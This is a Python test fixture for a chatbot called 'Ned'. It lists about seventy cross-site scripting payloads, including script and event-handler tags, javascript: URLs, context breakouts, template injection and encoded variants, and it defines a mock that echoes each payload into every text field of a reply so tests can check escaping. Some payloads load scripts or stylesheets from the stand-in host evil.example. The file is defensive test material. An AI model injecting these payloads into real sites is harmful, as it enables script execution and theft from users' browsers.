"""Texts that would run a script or make an element if any page, piece, answer or widget took them for markup; and a Ned that says
nothing else: every word of every part of its answers is what was written to it.
"""

from typing import Any

from pydantic import ValidationError

from bot.conversation import Conversation
from bot.turn import Turn
from bot.web.mind import Mind
from responses.reply import Reply
from tests.bot.web.samples import DATASETS, REPLY, sample_mind

__all__ = ["PAYLOADS", "PLAIN", "echoing_mind"]

PLAIN = "word"
PAYLOADS = (
    # elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\t\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:x onerror\t=\talert(1) //",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<ned-chat question=x></ned-chat>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=animation:x onanimationstart=alert(1)>",
    # out of where a text stands
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus x='",
    "` onerror=alert(1) `",
    " onerror=alert(1) ",
    "x\" autofocus onfocus=\"alert(1)",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg></text></template></noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml-stylesheet href='javascript:alert(1)'?><x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # into a script, a query, a template
    "'-alert(1)-'",
    "\";alert(1);//",
    "\\\"-alert(1)}//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028alert(1)\u2029",
    "javascript:alert(1)//",
    "JaVaScRiPt&colon;alert(1)",
    # written so that something else decodes it
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</\u200bscript>",
    "\u202e>tpircs<",
)  # fmt: skip


def _leaves(of: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:  # noqa: ANN401 - any JSON
    if isinstance(of, str):
        return [path]
    within = of.items() if isinstance(of, dict) else enumerate(of) if isinstance(of, list | tuple) else ()
    return [leaf for key, value in within for leaf in _leaves(value, (*path, key))]


def _put(into: Any, path: tuple[str | int, ...], text: str) -> None:  # noqa: ANN401
    for step in path[:-1]:
        into = into[step]
    into[path[-1]] = text


def _free() -> tuple[tuple[str | int, ...], ...]:
    """Where in the sample of all parts any text may stand."""
    found = []
    for path in _leaves(REPLY.model_dump(mode="json")):
        tried = REPLY.model_dump(mode="json")
        _put(tried, path, PLAIN)
        try:
            Reply.model_validate(tried)
        except ValidationError:
            continue
        found.append(path)
    return tuple(found)


_FREE = _free()


def _echo(text: str, conversation: Conversation) -> Turn:
    said = REPLY.model_dump(mode="json")
    for path in _FREE:
        _put(said, path, text)
    turn = sample_mind().take(PLAIN, conversation)
    return Turn(Reply.model_validate(said), turn.conversation, turn.understanding, None, turn.after)


def echoing_mind() -> Mind:
    """A Ned whose answers have every part there is, with nothing but what was written in them."""
    return Mind(_echo, "1", DATASETS)
